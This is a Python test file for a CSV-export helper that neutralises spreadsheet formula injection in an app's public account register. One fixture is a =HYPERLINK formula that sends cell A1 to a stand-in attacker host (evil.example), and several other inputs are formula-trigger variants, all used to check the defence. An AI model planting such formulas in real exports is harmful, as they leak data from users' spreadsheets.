"""Every CSV the app writes defuses cells a spreadsheet would run as a formula."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest

from core import csvsafe

from .factories import AccountFactory

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'


@pytest.mark.parametrize(
    "value",
    [
        HYPERLINK,
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\x00=1",
        "  =1+1",
        "\u00a0=1",
        "\uff1d1+1",  # full-width =
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(1)",
        "\u22121",  # minus sign
    ],
)
def test_a_formula_cell_gets_a_leading_apostrophe(value):
    assert csvsafe.defuse(value) == "'" + value


@pytest.mark.parametrize("value", ["Biblioteket", "", " ", "1+1", "a=b", "'=already", 12, -5, None])
def test_other_cells_are_written_as_they_are(value):
    assert csvsafe.defuse(value) == value


def test_the_writers_defuse_every_cell():
    out = io.StringIO()
    csvsafe.writer(out).writerows([["=1", "ok", -3, datetime.date(2026, 1, 1)]])
    writer = csvsafe.DictWriter(out, fieldnames=["a", "b"])
    writer.writerow({"a": "@x", "b": "y"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1", "ok", "-3", "2026-01-01"],
        ["'@x", "y"],
    ]


def test_the_public_register_csv_defuses_names_and_handles(client, account):
    AccountFactory(
        display_name=HYPERLINK,
        handle="@ekdalakommun",
        url="https://x.com/ekdalakommun",
        unit=account.unit,
        responsible=account.responsible,
        platform="x",
    )
    text = b"".join(client.get("/register.csv").streaming_content).decode("utf-8-sig")
    rows = {row["platform"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["x"]["name"] == "'" + HYPERLINK
    assert rows["x"]["handle"] == "ekdalakommun"  # the name, without @ and without a quote
    # The JSON keeps the exact values.
    (row,) = client.get("/register.json", {"platform": "x"}).json()["results"]
    assert row["name"] == HYPERLINK and row["handle"] == "@ekdalakommun"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("@ekdalakommun", "ekdalakommun"),
        (" @ekdala.bibliotek ", "ekdala.bibliotek"),
        ("\uff20ekdala", "ekdala"),
        ("ekdalakommun", "ekdalakommun"),
        ("@=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("@@x", "'@x"),
        ("", ""),
    ],
)
def test_a_handle_is_written_without_its_at_sign_and_defused_if_still_needed(value, cell):
    assert csvsafe.handle(value) == cell


def test_no_csv_is_written_past_the_helper():
    """csv.writer and csv.DictWriter appear only in core/csvsafe.py."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|from csv import")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.glob("*/**/*.py")
        if path.parts[len(ROOT.parts)] not in {".venv", "node_modules", "tests"}
        and path != ROOT / "core" / "csvsafe.py"
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
